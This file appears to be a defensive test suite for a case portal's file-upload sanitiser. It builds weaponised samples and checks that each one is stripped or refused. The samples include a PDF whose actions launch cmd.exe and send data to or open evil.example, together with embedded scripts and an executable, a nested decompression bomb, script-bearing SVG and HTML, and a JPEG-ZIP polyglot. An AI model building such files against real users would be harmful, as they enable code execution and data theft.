"""Files made to do harm: what they carry does not reach the officer who opens them."""

import io
import zlib
from collections.abc import AsyncIterator

import pikepdf
import pytest
import pytest_asyncio
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from caseportal.attachments.intake import Accepted, Rejected, take_in
from caseportal.attachments.workers import Rewriters
from tests.caseportal.attachments.samples import pdf
from tests.caseportal.site import picture

pytestmark = pytest.mark.asyncio

Name, Dictionary, Array, String = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.String


@pytest_asyncio.fixture
async def rewriters() -> AsyncIterator[Rewriters]:
    """Real children."""
    pool = Rewriters(size=2)
    yield pool
    await pool.close()


def armed_pdf() -> bytes:
    """A PDF that starts a program, sends a form, opens an address, carries a file and runs scripts at every chance."""
    document = pikepdf.new()
    page = document.add_blank_page()
    actions = {
        "launch": Dictionary(S=Name.Launch, F=String("cmd.exe")),
        "form": Dictionary(S=Name.SubmitForm, F=String("http://evil.example/form")),
        "remote": Dictionary(S=Name.GoToR, F=String("//evil.example/share"), D=Array([0, Name.Fit])),
        "address": Dictionary(S=Name.URI, URI=String("http://evil.example/uri")),
        "script": Dictionary(S=Name.JavaScript, JS=String("app.alert('evil')")),
    }
    page.obj.AA = Dictionary(O=actions["script"], C=actions["launch"])
    document.Root.AA = Dictionary(WC=actions["script"])
    document.Root.OpenAction = actions["launch"]
    page.obj.Annots = Array(
        [
            document.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]), A=action))
            for action in actions.values()
        ]
    )
    document.attachments["evil.exe"] = b"MZ evil program"
    target = io.BytesIO()
    document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return target.getvalue()


async def test_nothing_of_an_armed_pdf_fires(rewriters: Rewriters) -> None:
    """Launch, submit, remote and script actions and embedded files are gone; the page stays."""
    result = await take_in(rewriters, "scan.pdf", armed_pdf())
    assert isinstance(result, Accepted)
    with pikepdf.open(io.BytesIO(result.content)) as document:
        assert len(document.pages) == 1
        text = b"".join(
            item.unparse(resolved=True) + (item.read_bytes() if isinstance(item, pikepdf.Stream) else b"")
            for item in document.objects
            if isinstance(item, pikepdf.Dictionary | pikepdf.Stream)
        )
        for word in (b"/Launch", b"/JavaScript", b"/SubmitForm", b"/GoToR", b"/URI", b"evil", b"/EmbeddedFile", b"/AA"):
            assert word not in text, word


async def test_a_pdf_that_unpacks_to_gigabytes_ends_in_words_or_unharmed(rewriters: Rewriters) -> None:
    """The child has a limit of memory and time; the portal answers and takes the next file."""
    bomb = zlib.compress(zlib.compress(b"\0" * 200_000_000, 9), 9)
    document = pikepdf.new()
    page = document.add_blank_page()
    stream = pikepdf.Stream(document, b"")
    stream.write(bomb, filter=Array([Name.FlateDecode, Name.FlateDecode]))
    page.obj.Contents = document.make_indirect(stream)
    target = io.BytesIO()
    document.save(target)
    assert isinstance(await take_in(rewriters, "bomb.pdf", target.getvalue()), Accepted | Rejected)
    assert isinstance(await take_in(rewriters, "next.pdf", pdf()), Accepted)


async def test_a_picture_whose_text_unpacks_to_megabytes(rewriters: Rewriters) -> None:
    """Endless compressed text in a PNG is refused or dropped, never kept."""
    info, target = PngInfo(), io.BytesIO()
    info.add_text("evil", "A" * 60_000_000, zip=True)
    Image.new("RGB", (10, 10)).save(target, "PNG", pnginfo=info)
    result = await take_in(rewriters, "p.png", target.getvalue())
    assert isinstance(result, Rejected) or b"evil" not in result.content


@pytest.mark.parametrize(
    "content",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"<!doctype html><script>alert(1)</script>",
        b"GIF89a" + b"\0" * 50,
        b"PK\x03\x04" + b"\0" * 50,
        b"\xff\xd8\xff",
        b"BM",
        b"\x89PNG\r\n\x1a\n",
        b"%PDF-",
    ],
)
async def test_what_is_no_picture_is_refused_whatever_its_name(rewriters: Rewriters, content: bytes) -> None:
    """SVG, HTML, GIF, ZIP and bare signatures named photo.jpg are refused with words."""
    assert isinstance(await take_in(rewriters, "photo.jpg", content), Rejected)


async def test_a_picture_that_is_also_a_page_and_an_archive(rewriters: Rewriters) -> None:
    """A JPEG with HTML in its comment and a ZIP behind it comes out as a JPEG alone."""
    target = io.BytesIO()
    Image.new("RGB", (30, 30)).save(target, "JPEG", comment=b"<html><script>alert(1)</script>")
    result = await take_in(rewriters, "p.html", target.getvalue() + b"PK\x03\x04 archive")
    assert isinstance(result, Accepted)
    assert result.name == "p.jpg"
    assert b"script" not in result.content
    assert b"PK" not in result.content[-20:]


async def test_a_portal_that_is_busy_with_bad_files_takes_good_ones(rewriters: Rewriters) -> None:
    """After files that break their child the next one is taken."""
    for _ in range(3):
        await take_in(rewriters, "x.pdf", b"%PDF-1.7\n1 0 obj <<" * 2000)
    assert isinstance(await take_in(rewriters, "p.jpg", picture()), Accepted)
